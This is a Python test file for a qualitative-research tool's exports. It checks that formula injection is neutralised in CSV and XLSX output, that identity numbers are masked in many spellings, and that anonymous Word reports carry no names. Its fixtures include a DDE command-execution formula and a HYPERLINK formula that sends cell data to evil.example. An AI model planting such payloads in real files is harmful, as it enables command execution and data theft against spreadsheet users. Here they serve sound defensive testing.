"""Exports leak nothing: no live formulas in tables, identity numbers masked in any spelling,
anonymous Word reports without names in headings, title or metadata."""

from __future__ import annotations

import csv

from openpyxl import load_workbook
from testkit import run_qualcode

import qualcode as qc
from qualcode.export.tables import write_csv, write_xlsx

HOSTILE = {
    "code": "=cmd|' -C calc'!A0",
    "coder": "@SUM(1+1)*cmd",
    "memo": '=HYPERLINK("http://evil.example/?q=" & A1, "klikk her")',
    "role": "+47 22 00 00 00",
    "excerpt": "- Vi fikk ikke tid, sa hun.",
}


def hostile_project(path):
    p = qc.create_project(path, coder=HOSTILE["coder"])
    office = p.add_case("kontor02", "office")
    p.set_attribute("rolle", HOSTILE["role"], case=office)
    p.set_attribute("antall", -3, case=office)
    text = HOSTILE["excerpt"] + "\nIP: Lederen støttet oss.\n"
    p.add_source("intervju", text, case=office)
    p.add_code(HOSTILE["code"])
    p.add_code("ledelse")
    coding = p.code_span("intervju", 0, len(HOSTILE["excerpt"]), HOSTILE["code"])
    p.set_coding_memo(coding.id, HOSTILE["memo"])
    p.code_span("intervju", text.index("Lederen"), len(text) - 1, "ledelse")
    return p


def test_xlsx_export_has_no_formula_cell_and_keeps_the_text_and_the_numbers(tmp_path):
    with hostile_project(tmp_path / "p.qualcode") as p:
        write_xlsx(p, tmp_path / "ut.xlsx")
    book = load_workbook(tmp_path / "ut.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(HOSTILE.values()) <= texts  # the text as it was, only not a formula
    header = [c.value for c in book["codings"][1]]
    first = dict(zip(header, [c.value for c in book["codings"][2]], strict=True))
    assert first["antall"] == -3 and isinstance(first["start"], int)


def test_csv_export_prefixes_text_a_spreadsheet_would_run(tmp_path):
    with hostile_project(tmp_path / "p.qualcode") as p:
        write_csv(p, tmp_path / "ut")
    cells = []
    for name in ("codings", "codes", "matrix", "cooccurrence"):
        with open(tmp_path / "ut" / f"{name}.csv", encoding="utf-8-sig", newline="") as f:
            cells += [c for row in csv.reader(f) for c in row]
    for value in HOSTILE.values():
        assert value not in cells and "'" + value in cells
    assert [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-") and
            not c.lstrip("-").replace(".", "").isdigit()] == []
    assert "-3" in cells  # a negative number stays a number


def test_query_csv_output_is_neutralised_too(tmp_path):
    hostile_project(tmp_path / "p.qualcode").close()
    result = run_qualcode("query", "codings", "-p", "p.qualcode", "--format", "csv",
                          cwd=tmp_path)
    rows = list(csv.reader(result.stdout.splitlines()))
    assert any("'" + HOSTILE["code"] in row for row in rows)
    assert not any(c.startswith("=") for row in rows for c in row)


FNR = "15039010043"  # checksum-valid: must never be printed
FULL_WIDTH = str.maketrans("0123456789", "０１２３４５６７８９")
SPELLINGS = {
    "plain": FNR,
    "space": f"{FNR[:6]} {FNR[6:]}",
    "no-break space": f"{FNR[:6]}\u00a0{FNR[6:]}",
    "two spaces": f"{FNR[:6]}  {FNR[6:]}",
    "hyphen": f"{FNR[:6]}-{FNR[6:]}",
    "dot": f"{FNR[:6]}.{FNR[6:]}",
    "full-width": FNR.translate(FULL_WIDTH),
    "full-width, no-break space": f"{FNR[:6]}\u00a0{FNR[6:]}".translate(FULL_WIDTH),
}


def test_identity_numbers_in_every_spelling_are_warned_about_at_import_and_masked(tmp_path):
    from qualcode.ingest.transcripts import import_transcripts
    folder = tmp_path / "intervjuer"
    folder.mkdir()
    for n, spelling in enumerate(SPELLINGS.values()):
        (folder / f"int{n}.txt").write_text(f"IP: Saken hans, nummer {spelling}, hjalp.\n",
                                            encoding="utf-8")
    with qc.create_project(tmp_path / "p.qualcode") as p:
        report = import_transcripts(p, sorted(folder.iterdir()))
        warned = [w for w in report.warnings if "fødselsnummer (150390*****)" in w]
        assert len(warned) == len(SPELLINGS), report.warnings
        p.add_code("sak")
        for source in p.sources():
            p.code_span(source, 0, len(source.text) - 1, "sak")
        write_csv(p, tmp_path / "ut")
    exported = (tmp_path / "ut" / "codings.csv").read_text(encoding="utf-8-sig")
    assert exported.count("[fødselsnummer]") == len(SPELLINGS)
    for spelling in SPELLINGS.values():
        assert spelling not in exported


def test_other_numbers_in_those_spellings_are_left_alone():
    from qualcode.core.pii import find_fodselsnummer
    from qualcode.export.masking import mask_identity_numbers
    wrong = FNR[:-1] + "4"  # a check digit off
    for text in (f"{wrong[:6]}-{wrong[6:]}", f"{FNR[:6]}\n{FNR[6:]}", f"1{FNR}",
                 f"{FNR[:6]}--{FNR[6:]}"):
        assert find_fodselsnummer(text) == [] and mask_identity_numbers(text) == text


def test_an_anonymous_word_report_names_no_office_or_project_anywhere_in_the_file(tmp_path):
    import datetime as dt
    import zipfile

    from docx import Document

    from qualcode.export.report_docx import excerpts_docx
    offices = ["Alna", "Bjerke", "Frogner"]
    with qc.create_project(tmp_path / "p.qualcode", "Kari Nordmanns studie i Alna") as p:
        p.add_code("tid")
        for n, office in enumerate(offices):
            case = p.add_case(f"kontor-{office}", "office")
            p.set_attributes({"office": office, "role": "veileder"}, case=case)
            text = f"IP: Vi fikk ikke tid i uke {n}.\n"
            p.add_source(f"{office}_T1", text, case=case)
            p.code_span(f"{office}_T1", 4, len(text) - 1, "tid")
        for layout in ("group-code", "code-group"):
            out = tmp_path / f"{layout}.docx"
            excerpts_docx(p, out, group_by="office", layout=layout, anonymous=True,
                          attribution="{role}, {office}")
            with zipfile.ZipFile(out) as docx:
                xml = " ".join(docx.read(n).decode("utf-8") for n in docx.namelist()
                               if n.endswith(".xml"))
            for name in [*offices, "Kari", "Nordmann"]:
                assert name not in xml, (layout, name)
            doc = Document(str(out))
            headings = [q.text for q in doc.paragraphs if q.style.name.startswith("Heading")]
            assert {"Office A", "Office B", "Office C"} <= set(headings)
            props = doc.core_properties
            assert (props.author, props.last_modified_by, props.comments) == (
                "qualcode", "qualcode", "")
            assert props.title == "Coded excerpts"
            assert props.created.date() == dt.datetime.now(dt.UTC).date()
        excerpts_docx(p, tmp_path / "titled.docx", group_by="office", anonymous=True,
                      title="Delrapport 2")  # a title given is a title asked for
        assert Document(str(tmp_path / "titled.docx")).core_properties.title == "Delrapport 2"
        excerpts_docx(p, tmp_path / "named.docx", group_by="office")
        named = Document(str(tmp_path / "named.docx"))
        assert "Office Alna" in [q.text for q in named.paragraphs]
        assert named.core_properties.author == "qualcode"
